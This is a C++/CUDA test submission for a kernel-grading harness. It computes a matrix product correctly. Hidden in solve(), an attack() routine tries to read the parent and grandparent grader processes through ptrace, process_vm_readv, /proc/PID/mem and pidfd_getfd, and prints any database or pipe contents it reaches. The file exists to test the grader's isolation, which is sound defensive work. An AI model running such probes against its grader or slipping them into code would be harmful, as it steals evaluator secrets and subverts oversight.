// expect: ACCEPTED
// Tries to read the grader's memory and files through its parent processes: ptrace attach,
// process_vm_readv, /proc/PID/mem, and a copy of their open descriptors (pidfd_getfd: the database,
// the pipes). Whatever it gets it prints; the harness checks that no planted secret reached any
// output. It computes C correctly.
#include <cuda_runtime.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <cstdio>
#include <cstring>
#include <unistd.h>

__global__ void matmul_naive(const float* A, const float* B, float* C, int M, int N, int K) {
    int col = blockIdx.x * blockDim.x + threadIdx.x;
    int row = blockIdx.y * blockDim.y + threadIdx.y;
    if (row < M && col < K) {
        float sum = 0.0f;
        for (int i = 0; i < N; ++i) sum += A[(size_t)row * N + i] * B[(size_t)i * K + col];
        C[(size_t)row * K + col] = sum;
    }
}

static void launch(const float* A, const float* B, float* C, int M, int N, int K) {
    dim3 block(16, 16);
    dim3 grid((K + 15) / 16, (M + 15) / 16);
    matmul_naive<<<grid, block>>>(A, B, C, M, N, K);
}

static void probe(int pid) {
    if (pid <= 1) return;
    long traced = ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
    std::printf("ptrace %d: %ld\n", pid, traced);
    if (traced == 0) ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    char buf[256] = {0};
    iovec local{buf, sizeof buf - 1}, remote{reinterpret_cast<void*>(0x400000), sizeof buf - 1};
    std::printf("process_vm_readv %d: %zd\n", pid, process_vm_readv(pid, &local, 1, &remote, 1, 0));
    char path[64];
    std::snprintf(path, sizeof path, "/proc/%d/mem", pid);
    FILE* mem = std::fopen(path, "rb");
    std::printf("open %s: %s\n", path, mem ? "yes" : "no");
    if (mem) std::fclose(mem);
    long pidfd = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 64; ++fd) {
        long copy = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (copy < 0) continue;
        ssize_t n = pread(static_cast<int>(copy), buf, sizeof buf - 1, 0);
        for (ssize_t i = 0; i < n; ++i) if (buf[i] == 0) buf[i] = ' ';
        if (n > 0) { buf[n] = 0; std::printf("fd %d of %d: %s\n", fd, pid, buf); }
        close(static_cast<int>(copy));
    }
    if (pidfd >= 0) close(static_cast<int>(pidfd));
}

static void attack() {
    int parent = getppid();
    probe(parent);
    char path[64];
    std::snprintf(path, sizeof path, "/proc/%d/stat", parent);
    if (FILE* f = std::fopen(path, "r")) {
        int grandparent = 0;
        if (std::fscanf(f, "%*d %*s %*c %d", &grandparent) == 1) probe(grandparent);
        std::fclose(f);
    }
    std::fflush(stdout);
}

extern "C" void solve(const float* A, const float* B, float* C, int M, int N, int K) {
    static bool once = (attack(), true);
    (void)once;
    launch(A, B, C, M, N, K);
}
